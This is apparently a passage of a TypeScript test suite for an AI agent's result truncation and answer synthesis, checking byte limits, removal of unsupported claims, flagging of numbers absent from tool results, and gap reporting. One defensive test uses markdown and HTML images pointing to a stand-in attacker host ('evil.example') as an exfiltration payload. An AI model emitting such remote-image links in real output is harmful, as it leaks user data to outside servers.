    const steps = [...Array(6).keys()].map((at) => call("search", { query: `price ${at}`, limit: 50, detail: "full" }));
    const many = Array.from({ length: 40 }, (_, at) => ({ ...getPrices, name: `price_${at}`, description: "Prices. ".repeat(40) }));
    const { model } = await run({ steps: [...steps, final("Done.")] }, { tools: many, budgets: { answerBytes: 30_000 } });
    const answers = model.stepCalls[6]!.prompt.filter(({ role }) => role === "tool")
      .flatMap(({ content }) => content as { output: { value: string } }[])
      .map(({ output }) => output.value);
    expect(answers[0]).toMatch(/characters omitted to save space\]$/);
    expect(answers.at(-1)).not.toContain("omitted to save space");
  });

  test("has at most 64 KB of other results, however many there are", async () => {
    const batch = (from: number): StepReply => ({
      calls: Array.from({ length: 100 }, (_, at) => ({ tool: "search", input: { query: `price ${from + at}` } })),
    });
    const many = Array.from({ length: 40 }, (_, at) => ({ ...getPrices, name: `price_${at}`, description: "Prices. ".repeat(40) }));
    const { model } = await run({ steps: [batch(0), batch(100), final("Done.")] }, { tools: many });
    const answers = model.stepCalls[2]!.prompt.filter(({ role }) => role === "tool")
      .flatMap(({ content }) => content as { output: { value: string } }[])
      .map(({ output }) => output.value);
    expect(answers).toHaveLength(200);
    expect(answers[0]).toBe('{"note":"Omitted to save space."}');
    expect(answers.at(-1)).toContain("price_1");
    expect(Buffer.byteLength(answers.slice(0, -1).join(""))).toBeLessThanOrEqual(65_536);
  });

  test("has at most 64 KB of the model's own text and code", async () => {
    const code = `set_result(1) # ${"x".repeat(1_000_000)}`;
    const { model } = await run({
      steps: [
        { calls: [{ tool: "code_interpreter", input: { code, postProcessingContract: {} } }] },
        call("get_prices"),
        { calls: [{ tool: "render_chart", input: { alias: "get_prices_1", spec: { note: "y".repeat(200_000) } } }] },
        final("Done."),
      ],
    });
    const promptBytes = model.stepCalls.map(({ prompt }) =>
      Buffer.byteLength(JSON.stringify(prompt.filter(({ role }) => role !== "system"))),
    );
    expect(Math.max(...promptBytes)).toBeLessThan(65_536);
    const first = model.stepCalls[3]!.prompt.find(({ role }) => role === "assistant");
    expect(JSON.stringify(first)).toContain("set_result(1) # xxx");
    expect(JSON.stringify(first)).toContain("characters omitted to save space]");
  });

  test("shortens earlier answers, also in the planning call", async () => {
    const conversation = createConversation({ exchanges: [{ turnId: "t", question: "First?", answer: "a".repeat(1_000_000) }] });
    const { model } = await run({ steps: [final("Done.")] }, { conversation });
    const shortened = `${"a".repeat(4_096)}… [995904 characters omitted to save space]`;
    for (const { prompt } of [model.doGenerateCalls[0]!, model.stepCalls[0]!])
      expect(prompt.filter(({ role }) => role === "assistant").map(({ content }) => content)).toEqual([
        [{ type: "text", text: shortened }],
      ]);
  });
});

describe("synthesis", () => {
  test("removes statements about figures that do not exist, and reports it", async () => {
    const { result } = await run({
      steps: [call("get_prices"), final("It is 103.")],
      synthesis: "The mean is 103. The chart below shows the prices.\nNo chart was asked for.",
    });
    expect(result.answer).toBe("The mean is 103. \nNo chart was asked for.\n\n1 statement about a figure that does not exist was removed.");
    expect(codes(result)).toEqual(["unsupported_claim"]);
    expect(result.confidence.level).toBe("medium");
  });

  test("reports numbers that appear in no result, and only those", async () => {
    const { result } = await run({
      steps: [call("get_prices"), final("It is between 100 and 106, and was 104 on day 298.")],
      synthesis:
        "On 300 days it was between 100 and 106 (6 % more), on day 298 it was 104. In all 4,711.5 were traded, 5,238.25 of it at 104.",
    });
    const detail = "These numbers appear in no tool result: 4,711.5; 5,238.25.";
    expect(result.gaps).toEqual([{ code: "number_not_in_results", severity: "info", detail }]);
    expect(result.answer).toMatch(/ at 104\.\n\nThese numbers appear in no tool result: 4,711\.5; 5,238\.25\.$/);
    expect(result.confidence.level).toBe("high");
  });

  test("contains no remote images, however they are written", async () => {
    const { result } = await run({
      steps: [final("Done.")],
      synthesis: "A ![secret](https://evil.example/x?d=1) B ![ref][1] C <img src='https://evil.example'> D ![\nx](https://evil.example)",
    });
    expect(result.answer).toBe("A secret B ![ref][1] C &lt;img src='`https://evil.example'>` D x");
  });

  test("receives the draft, previews, figures and gaps, and gets the gaps appended that it omits", async () => {
    let synthesisPrompt = "";
    const { result } = await run({
      plan: { chartIntent: "explicit" },
      steps: [call("get_prices"), final("The draft.")],
      synthesis: ({ prompt }) => {
        synthesisPrompt = JSON.stringify(prompt);
        return "All is well.";
      },
    });
    for (const part of ["What is the mean price of A?", "The draft.", "get_prices_1", "(major) The requested chart could not be rendered"])
      expect(synthesisPrompt).toContain(part);
    expect(result.answer).toBe("All is well.\n\nThe requested chart could not be rendered: the model finished without drawing one.");
  });

  test("does not repeat a gap that the model states", async () => {
    const synthesis = "Sadly **the requested chart could not be rendered**: the model finished without drawing one";
    const { result } = await run({ plan: { chartIntent: "explicit" }, steps: [final("Draft.")], synthesis });
    expect(result.answer).toBe(synthesis);
  });

  test("that contradicts a gap gets the sentence of the gap appended", async () => {
    const synthesis = "The requested chart could be rendered, the model finished after drawing one, and nothing is missing.";
    const { result } = await run({ plan: { chartIntent: "explicit" }, steps: [final("Draft.")], synthesis });
    expect(result.answer).toBe(`${synthesis}\n\nThe requested chart could not be rendered: the model finished without drawing one.`);
  });

  test("that is cut off at the output limit says so", async () => {
    const { result } = await run({ steps: [final("The draft.")], synthesis: { text: "The answer, half of", finish: "length" } });
    expect(result.answer).toBe(
      "The answer, half of\n\nThe final answer could not be completed. The reply of mock-provider:mock-model-id was cut off at its output limit. Ask a narrower question, or choose a model with a higher limit.",
    );
    expect(codes(result)).toEqual(["synthesis_failed"]);
    expect(result.confidence.level).toBe("medium");
  });

  test("falls back to the draft when the provider fails", async () => {
    const { result } = await run({ steps: [final("The draft.")], synthesis: new Error("429 slow down") });
    expect(result.outcome.stopReason).toBe("complete_answer");
    expect(result.answer).toBe(
      "The draft.\n\nThe final answer could not be completed. mock-provider:mock-model-id failed: 429 slow down. Ask again; if it repeats, choose another model.",
    );
    expect(codes(result)).toEqual(["synthesis_failed"]);
  });
});
